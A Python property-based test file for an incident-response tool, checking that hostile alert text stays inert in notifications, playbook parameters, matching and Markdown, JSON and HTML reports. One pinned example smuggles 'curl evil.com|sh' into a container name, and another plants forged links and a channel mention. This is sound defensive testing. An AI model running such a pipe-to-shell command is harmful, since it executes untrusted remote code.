"""Hostile alert text in every event field: never evaluated, never a control, never broken markup.

The alert is attacker-controlled text. Template syntax, controls, bidi overrides, `</script>`,
Markdown fences and pipes, NULs and very long lines go into every field of the event, the
container and the incident; messages (default and channel templates), playbook parameters,
matching and the three report formats must print them as data and keep their own structure.
Structure is checked against a twin: the same incident with every backtick, pipe, backslash
and HTML metacharacter replaced by `~`, which cannot break anything.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import pytest
from _builders import load_text
from _hostile import hostile_settings, hostile_text, json_values
from _links import links
from _wire import KINDS, log_lines, shown_lines, wire
from hypothesis import example, given
from hypothesis import strategies as st

from responder.actions import Artifact
from responder.engine import ContainerInfo
from responder.incidents import IncidentRecord, StepRecord
from responder.journal import Event, Priority, Target, new_event_id
from responder.notifications.messages import MessageFacts, build_message
from responder.notifications.outbox import OutboxRecord
from responder.playbooks import match_event, template_context
from responder.reports import build_report, render
from responder.text import BLOCK_LIMIT, VALUE_LIMIT, Templates, inert, quote_block, strip_controls

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from responder.notifications.channels import Message
    from responder.playbooks import PlaybookSet

SETTINGS = hostile_settings(200)
EVENT_TIME = datetime(2026, 3, 2, 9, 12, 44, tzinfo=UTC)
INCIDENT_ID = "01JQ8ZK3V5T7W9X1Y2Z3A4B5C6"
MAX_TEMPLATE_OUTPUT = 64 * 1024
# `~` keeps what it replaces unsafe: a file name with a quote is left out of the check script
# in both reports, so the two differ only where the hostile text could break something.
_TWIN = str.maketrans(dict.fromkeys("`|\\<>&\"'", "~"))
_CONTROL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)

CHANNEL_TEMPLATE = """\
name={{ event.name }}
rule={{ event.rule }}
output={{ event.output }}
host={{ event.hostname }}
{% for tag in event.tags %}tag={{ tag }}
{% endfor %}{% for k, v in event.labels.items() %}label {{ k }}={{ v }}
{% endfor %}{% for k, v in event.annotations.items() %}annotation {{ k }}={{ v }}
{% endfor %}{% for k, v in event.fields.items() %}field {{ k }}={{ v }}
{% endfor %}container={{ container.name }} image={{ container.image }} id={{ container.id }}
{% for k, v in container.labels.items() %}container label {{ k }}={{ v }}
{% endfor %}target={{ target.ref }}
{% for step in incident.steps %}step {{ step.action }}: {{ step.detail }} {{ step.error }}
{% endfor %}"""
"""A channel template that prints every field an alert can fill."""

PARAMETERS = {
    "message": "{{ event.name }} on {{ event.hostname }}: {{ event.output }}",
    "labels": ["{{ event.labels }}", "{{ event.annotations }}", "{{ event.fields }}"],
    "container": {"name": "{{ container.name }}", "image": "{{ container.image }}"},
    "tags": "{{ event.tags | join(', ') }}",
}
"""Playbook step parameters that insert alert text."""


@dataclass(frozen=True)
class Text:
    """The hostile strings of one example, drawn once and used for the incident and its twin."""

    name: str
    output: str
    hostname: str
    source: str
    tags: tuple[str, ...]
    labels: dict[str, str]
    annotations: dict[str, str]
    fields: dict[str, Any]
    target_id: str
    target_name: str
    container_name: str
    image: str
    container_labels: dict[str, str]
    detail: str
    error: str
    reason: str
    artifact: str
    last_error: str

    def map(self, change: Callable[[str], str]) -> Text:
        """The same text with `change` applied to every string, keys and nested values too."""
        return Text(**{name: _deep(value, change) for name, value in vars(self).items()})


def _deep(value: Any, change: Callable[[str], str]) -> Any:
    if isinstance(value, str):
        return change(value)
    if isinstance(value, tuple):
        return tuple(_deep(item, change) for item in value)
    if isinstance(value, list):
        return [_deep(item, change) for item in value]
    if isinstance(value, dict):
        return {change(key): _deep(item, change) for key, item in value.items()}
    return value


def twin(text: str) -> str:
    """The text with everything that could close a code span, a cell or a tag made harmless."""
    return text.translate(_TWIN)


_FIELD_KEYS = st.one_of(
    st.sampled_from(["container.id", "container.name", "proc.aname[2]", "user.uid", ""]),
    hostile_text(max_pieces=3, long_runs=False),
)
_STR_MAPS = st.dictionaries(hostile_text(max_pieces=3), hostile_text(max_pieces=4), max_size=4)
texts = st.builds(
    Text,
    name=hostile_text().filter(bool),
    output=hostile_text(max_pieces=8),
    hostname=hostile_text(max_pieces=4),
    source=hostile_text(max_pieces=2, long_runs=False),
    tags=st.lists(hostile_text(max_pieces=3), max_size=4).map(tuple),
    labels=_STR_MAPS,
    annotations=_STR_MAPS,
    fields=st.dictionaries(_FIELD_KEYS, json_values(max_leaves=6), max_size=5),
    target_id=hostile_text(max_pieces=3).filter(bool),
    target_name=hostile_text(max_pieces=3),
    container_name=hostile_text(max_pieces=3).filter(bool),
    image=hostile_text(max_pieces=3).filter(bool),
    container_labels=_STR_MAPS,
    detail=hostile_text(max_pieces=5),
    error=hostile_text(max_pieces=5),
    reason=hostile_text(max_pieces=3),
    artifact=hostile_text(max_pieces=3).filter(bool),
    last_error=hostile_text(max_pieces=4),
)


def plain(**changes: Any) -> Text:
    """Harmless text in every field, with some changed by keyword: for pinned examples."""
    values: dict[str, Any] = dict.fromkeys(Text.__dataclass_fields__, "x")
    values |= {"tags": (), "labels": {}, "annotations": {}, "fields": {}}
    values["container_labels"] = {}
    return Text(**(values | changes))


def make_event(text: Text) -> Event:
    """A Falco event with hostile text in every field."""
    return Event(
        id=new_event_id(),
        key=f"falco:{INCIDENT_ID}",
        source="falco",
        name=text.name,
        priority=Priority.CRITICAL,
        status="firing",
        time=EVENT_TIME,
        received_at=EVENT_TIME,
        hostname=text.hostname or None,
        event_source=text.source,
        tags=text.tags,
        labels=text.labels,
        annotations=text.annotations,
        fields=text.fields,
        output=text.output,
        target=Target(id=text.target_id, name=text.target_name or None),
        raw={"rule": text.name, "output": text.output, "output_fields": text.fields},
    )


def make_container(text: Text) -> ContainerInfo:
    """The live container, as hostile as the alert (its name and labels are anyone's choice)."""
    return ContainerInfo(
        id=text.target_id, name=text.container_name, image=text.image, labels=text.container_labels
    )


def make_steps(text: Text) -> tuple[StepRecord, ...]:
    """A snapshot with a hostile artifact name, a failed step, a release that failed."""
    artifact = Artifact(
        name=text.artifact,
        kind="logs",
        sha256="1" * 64,
        size=10,
        collected_at="2026-03-02T09:12:45+00:00",
        collected_by=f"docker:snapshot ({text.detail[:40]})",
    )
    return (
        StepRecord(
            index=0,
            action="docker:snapshot",
            params={"message": text.output, text.name: [text.detail]},
            status="done",
            detail=text.detail,
            started_at="2026-03-02T09:12:45+00:00",
            duration_ms=12.5,
            attempts=1,
            artifacts=(artifact,),
            data={
                "manifest": "/data/evidence/x/manifest.json",
                "manifest_sha256": "2" * 64,
                "errors": [{"part": text.name, "error": text.error}],
            },
        ),
        StepRecord(
            index=1,
            action="docker:pause",
            status="failed",
            detail=text.detail,
            error=text.error or None,
            attempts=3,
            undo={"unpause": True},
            release_status="failed",
            release_detail=text.error,
        ),
    )


def make_record(text: Text, event: Event) -> IncidentRecord:
    """The incident as the runner stores it: event name, target and container from the alert."""
    return IncidentRecord(
        id=INCIDENT_ID,
        playbook="contain-shell",
        playbook_digest="0" * 64,
        playbook_file=f"playbooks/{text.name[:20]}.yaml:1",
        target=event.target.ref if event.target else None,
        container_id=text.target_id,
        container_name=text.container_name,
        image=text.image,
        state="partially contained",
        reason=text.reason or None,
        dry_run=False,
        event_source="falco",
        event_name=text.name,
        priority=event.priority.label,
        first_event=event.id,
        event_count=2,
        first_seen=EVENT_TIME.isoformat(),
        last_seen=EVENT_TIME.isoformat(),
        opened_at=EVENT_TIME.isoformat(),
        finished_at=EVENT_TIME.isoformat(),
        released_at=None,
        steps=make_steps(text),
    )


def make_facts(text: Text, report: str = "/data/reports/x/report.md") -> MessageFacts:
    """What the notify step knows: the incident, the event and the live container.

    The step's own message quotes the alert, as a playbook's `message` may.
    """
    event = make_event(text)
    record = make_record(text, event)
    return MessageFacts(
        record=record,
        context=template_context(event, make_container(text), None, INCIDENT_ID),
        steps=record.steps,
        state=record.state,
        dry_run=False,
        report=report,
        release_command=f"responder release {INCIDENT_ID}",
        note=f"Shell in {text.container_name}: {text.reason}",
    )


def placeholders(text: Text) -> Text:
    """The twin whose every non-empty string is a distinct `xN`: same shape, nothing to forge.

    Empty strings stay empty and distinct keys stay distinct, so every `if` and `for` of a
    template takes the same turn for both.
    """
    counter = iter(range(1_000_000))
    return text.map(lambda value: f"x{next(counter)}" if value else "")


OUR_LABELS = ("State:", "Report:", "Undo:", "Release:", "RELEASED:", "NOT restored:", "FAILED:")


def skeleton(lines: list[str]) -> tuple[int, list[str]]:
    """What no alert text may change: how many lines are ours, and each line that only we write.

    Quoted alert text (`>` lines) is left out: its number of lines is the alert's.
    """
    ours = [line for line in lines if not line.startswith(">")]
    return len(ours), [line for line in ours if line.startswith(OUR_LABELS)]


def assert_one_line_fields(message: Message) -> None:
    """No field but the text has a line break, and nothing anywhere a control (tab included)."""
    for name, value in message.model_dump(exclude={"text"}).items():
        for item in strings(value):
            assert item.splitlines() in ([], [item]), name
    assert_no_controls([item.replace("\n", "") for item in strings(message.model_dump())])
    assert "\t" not in message.text


def strings(value: Any) -> list[str]:
    """Every string in a JSON-like value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (*strings(key), *strings(item))]
    if isinstance(value, list | tuple):
        return [s for item in value for s in strings(item)]
    return []


def assert_no_controls(texts: list[str]) -> None:
    """No control, line-separator or bidi character anywhere (tab and newline are fine)."""
    for text in texts:
        found = _CONTROL.search(text)
        assert found is None, f"control {found.group()!r} in {text[:200]!r}"


def shown_whole(text: Text) -> list[str]:
    """The alert strings the channel template prints as they are (not as a repr)."""
    values = [text.name, text.output, text.hostname, text.container_name, text.image, text.detail]
    values += [*text.tags, *text.labels, *text.labels.values()]
    values += [*text.annotations, *text.annotations.values(), *text.fields]
    values += [value for value in text.fields.values() if isinstance(value, str)]
    values += [*text.container_labels, *text.container_labels.values()]
    return values


# Messages.


@SETTINGS
@given(text=texts)
@example(text=plain(hostname="\x00"))  # regression: Message.host kept the NUL
@example(text=plain(container_name="web-1\nState: released\nUndo: curl evil.com|sh"))  # issue 15
def test_the_default_message_prints_alert_text_inert_and_never_evaluates_it(text: Text) -> None:
    """`{{ 7*7 }}` stays literal; each value is one line (its output a quoted block); no link."""
    message = build_message("incident", make_facts(text), Templates(), None)
    twin = build_message("incident", make_facts(placeholders(text)), Templates(), None)
    assert_one_line_fields(message)
    assert skeleton(message.text.splitlines()) == skeleton(twin.text.splitlines())
    assert links(message.text) == []
    if len(message.text) < MAX_TEMPLATE_OUTPUT - 1:  # longer is cut at the limit, on purpose
        for value in (text.name, text.container_name, text.detail):
            assert inert(value, VALUE_LIMIT) in message.text
        if text.output:
            assert quote_block(text.output, limit=BLOCK_LIMIT) in message.text


@SETTINGS
@given(text=texts)
def test_a_channel_template_prints_every_field_on_one_line(text: Text) -> None:
    """A template that prints every alert field shows each one inert, on the line it printed it."""
    message = build_message("incident", make_facts(text), Templates(), CHANNEL_TEMPLATE)
    twin = build_message("incident", make_facts(placeholders(text)), Templates(), CHANNEL_TEMPLATE)
    assert_one_line_fields(message)
    assert len(message.text.splitlines()) == len(twin.text.splitlines())
    assert links(message.text) == []
    if len(message.text) < MAX_TEMPLATE_OUTPUT - 1:
        for value in shown_whole(text):
            assert inert(value, VALUE_LIMIT) in message.text


REPORT_URL = f"https://responder.example.com/v1/incidents/{INCIDENT_ID}/report?format=html"


@SETTINGS
@given(text=texts)
@example(text=plain(output="[t](https://evil.example/x) <https://evil.example|t> <!channel>"))
def test_every_channel_sends_alert_text_as_inert_text(text: Text) -> None:
    """Per channel kind, on the wire: our lines are ours alone and the only link is our report."""
    message = build_message("incident", make_facts(text, REPORT_URL), Templates(), None)
    twin = build_message("incident", make_facts(placeholders(text), REPORT_URL), Templates(), None)
    for kind in KINDS:
        lines = shown_lines(kind, message)
        ours, expected = Counter(skeleton(lines)[1]), Counter(skeleton(shown_lines(kind, twin))[1])
        # Slack cuts a long text after its last whole line: some of ours may be cut, never forged.
        assert ours <= expected if kind == "slack" else ours == expected, kind
        assert {url for line in lines for url in links(line)} <= {REPORT_URL}, kind
        assert_no_controls(lines)
    assert_no_markup(message)
    for line in log_lines(message):
        assert re.match(r"\d{4}-\d\d-\d\d [\d:,]+ WARNING responder\.notify: oncall \(", line)


def assert_no_markup(message: Message) -> None:
    """Slack gets plain text but for our report link; Teams only plain TextRuns."""
    slack = wire("slack", message)
    assert slack["mrkdwn"] is False
    objects = [
        slack["blocks"][0]["text"],
        slack["blocks"][1]["text"],
        *slack["blocks"][2]["fields"],
    ]
    assert [o["type"] for o in objects if o["type"] != "plain_text"] == ["mrkdwn"]
    [link] = [o for o in objects if o["type"] == "mrkdwn"]
    assert link == {
        "type": "mrkdwn",
        "text": f"*Report*\n<{REPORT_URL}|{REPORT_URL}>",
        "verbatim": True,
    }
    for item in strings(slack):
        assert "<" not in item.replace(f"<{REPORT_URL}|{REPORT_URL}>", "")
    card = wire("teams", message)["attachments"][0]["content"]
    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
    assert {run["type"] for block in card["body"] for run in block["inlines"]} == {"TextRun"}
    assert card["actions"] == [
        {"type": "Action.OpenUrl", "title": "Open the incident report", "url": REPORT_URL}
    ]


@SETTINGS
@given(text=texts)
def test_playbook_parameters_insert_alert_text_as_data(text: Text) -> None:
    """Step parameters that quote the alert get its text, never its evaluation or controls."""
    event = make_event(text)
    context = template_context(event, make_container(text), None, INCIDENT_ID)
    rendered = Templates().render_value(PARAMETERS, context)
    assert_no_controls(strings(rendered))
    message = rendered["message"]
    if len(message) < MAX_TEMPLATE_OUTPUT - 1:
        for value in (text.name, text.output):
            assert strip_controls(value).strip() in message
    assert rendered["container"] == {
        "name": strip_controls(text.container_name),
        "image": strip_controls(text.image),
    }


# Matching.

MATCHING = """
name: numbers-and-text
match:
  rules: ["*{{*", "*"]
  priority: ">=Notice"
  hostname: {glob: ["*"]}
  output: {regex: "."}
  fields:
    user.uid: {gt: 0}
    proc.aname[2]: {lte: 1e308}
    container.id: {not_in: ["host", 0, true]}
    container.name: {equals: 7}
  labels:
    severity: {in: [critical, 5]}
  annotations:
    summary: {exists: true}
steps:
  - action: docker:pause
---
name: every-operator
match:
  tags: {any: ["{{ 7*7 }}"], none: ["\\u202e"]}
  fields:
    "": {gte: -1e308}
    user.uid: {lt: 10, not_equals: 0}
    container.name: {glob: ["*`*", "*|*"]}
  container:
    name: {regex: "^.*$"}
    image: {in: ["{{ 7*7 }}"]}
    labels:
      "{{ 7*7 }}": {equals: "49"}
steps:
  - action: docker:pause
"""


@pytest.fixture(scope="module")
def matching_playbooks(tmp_path_factory: pytest.TempPathFactory) -> PlaybookSet:
    """Playbooks with every operator, numeric ones included, on the fields alerts fill."""
    directory: Path = tmp_path_factory.mktemp("hostile-matching")
    return load_text(directory, MATCHING)


_NUMBERS = st.one_of(
    json_values(max_leaves=4),
    st.sampled_from([10**400, -(10**400), 2**64, 1e308, -0.0, "1e400", "-inf", "nan", " 7 "]),
)


@SETTINGS
@given(text=texts, numbers=st.lists(_NUMBERS, min_size=4, max_size=4))
@example(text=plain(), numbers=[10**400, None, None, None])  # regression: OverflowError
def test_matching_hostile_events_never_raises(
    matching_playbooks: PlaybookSet, text: Text, numbers: list[Any]
) -> None:
    """Every operator on hostile values and numbers of any size: a verdict, never an exception."""
    keys = ("user.uid", "proc.aname[2]", "container.name", "")
    fields = {**text.fields, **dict(zip(keys, numbers, strict=True))}
    event = make_event(text).model_copy(update={"fields": fields})
    verdicts = match_event(event, matching_playbooks, make_container(text))
    assert len(verdicts) == 2
    for verdict in verdicts:
        assert_no_controls(list(verdict.reasons))


# Reports.


def report_texts(text: Text, data_dir: Path) -> dict[str, str]:
    """The incident's report in Markdown, JSON and HTML."""
    event = make_event(text)
    record = make_record(text, event)
    message = build_message("incident", make_facts(text), Templates(), None)
    notification = OutboxRecord(
        id=1,
        incident_id=INCIDENT_ID,
        channel="oncall",
        kind="webhook",
        message=message,
        state="failed",
        attempts=5,
        last_error=text.last_error,
        detail=None,
        created_at=EVENT_TIME.isoformat(),
        sent_at=None,
        next_attempt_at=0.0,
    )
    source = json.dumps({"name": "contain-shell", "description": text.output}, sort_keys=True)
    report = build_report(record, event, [notification], playbook_source=source, data_dir=data_dir)
    return {fmt: render(report, fmt) for fmt in ("md", "json", "html")}


_LINE_ENDING = re.compile(r"\r\n|\r|\n")
_RUNS = re.compile(r"`+")


def outside_code(text: str) -> str:
    """The text with every CommonMark code span replaced by `§`: what Markdown interprets."""
    out: list[str] = []
    position = 0
    while position < len(text):
        char = text[position]
        if char == "\\" and position + 1 < len(text) and not text[position + 1].isalnum():
            out.append(text[position : position + 2])
            position += 2
            continue
        if char != "`":
            out.append(char)
            position += 1
            continue
        run = _RUNS.match(text, position)
        assert run is not None
        size = len(run.group())
        closer = next((m for m in _RUNS.finditer(text, run.end()) if len(m.group()) == size), None)
        if closer is None:
            out.append(run.group())  # no closer: the backticks are literal
            position = run.end()
        else:
            out.append("§")
            position = closer.end()
    return "".join(out)


def table_cells(row: str) -> list[str]:
    """A GFM table row split on its unescaped pipes; an escaped pipe stays in its cell."""
    cells, current, position = [], [], 0
    while position < len(row):
        if row.startswith("\\|", position):
            current.append("|")
            position += 2
        elif row[position] == "|":
            cells.append("".join(current))
            current = []
            position += 1
        else:
            current.append(row[position])
            position += 1
    cells.append("".join(current))
    return cells


def markdown_structure(text: str) -> list[str]:
    """Fences, table rows (cell by cell) and lines, each as Markdown would read it outside code."""
    tokens: list[str] = []
    fence = 0
    for line in _LINE_ENDING.split(text):
        if fence:
            if re.fullmatch(rf" {{0,3}}`{{{fence},}}[ \t]*", line):
                tokens.append("end of fence")
                fence = 0
            continue
        opening = re.match(r" {0,3}(`{3,})([^`]*)$", line)
        if opening:
            fence = len(opening.group(1))
            tokens.append(f"fence {opening.group(2)}")
        elif line.startswith("|"):
            tokens.append("row " + " | ".join(outside_code(cell) for cell in table_cells(line)))
        else:
            tokens.append("line " + outside_code(line))
    assert not fence, "a fence is never closed"
    return tokens


def table_widths(text: str) -> list[tuple[int, int]]:
    """(cells in the header, cells in the row) for every row of every table."""
    widths = []
    header = 0
    for line in text.split("\n"):
        if not line.startswith("|"):
            header = 0
            continue
        cells = len(table_cells(line))
        if header == 0:
            header = cells
        widths.append((header, cells))
    return widths


class _Tags(HTMLParser):
    """Every tag and attribute as the browser would read them, and the text between."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.data: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(f"<{tag} {sorted(attrs)}>")

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.data.append(data)


def html_parts(text: str) -> tuple[list[str], str]:
    """The tags of an HTML page, and its text."""
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.tags, "".join(parser.data)


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the reports say the evidence is (nothing is written there)."""
    return tmp_path_factory.mktemp("hostile-reports")


@SETTINGS
@given(text=texts)
@example(text=plain(output="\x7f"))  # regression: the playbook source decoded it back
def test_reports_keep_their_structure_whatever_the_alert_says(data_dir: Path, text: Text) -> None:
    """Markdown keeps its fences, tables and prose; HTML its tags; JSON parses and holds the text."""
    hostile = report_texts(text, data_dir)
    harmless = report_texts(text.map(twin), data_dir)
    for fmt in ("md", "json", "html"):
        assert_no_controls([hostile[fmt]])

    assert markdown_structure(hostile["md"]) == markdown_structure(harmless["md"])
    for header, cells in table_widths(hostile["md"]):
        assert cells == header

    tags, page_text = html_parts(hostile["html"])
    assert tags == html_parts(harmless["html"])[0]
    assert not any(tag.startswith("<script") for tag in tags)
    if strip_controls(text.output).strip():
        assert strip_controls(text.output) in page_text

    parsed = json.loads(hostile["json"])
    first = parsed["trigger"]["first_event"]
    assert first["output"] == strip_controls(text.output)
    assert first["name"] == strip_controls(text.name)
    assert parsed["trigger"]["name"] == strip_controls(text.name)
    assert_no_controls(strings(parsed))
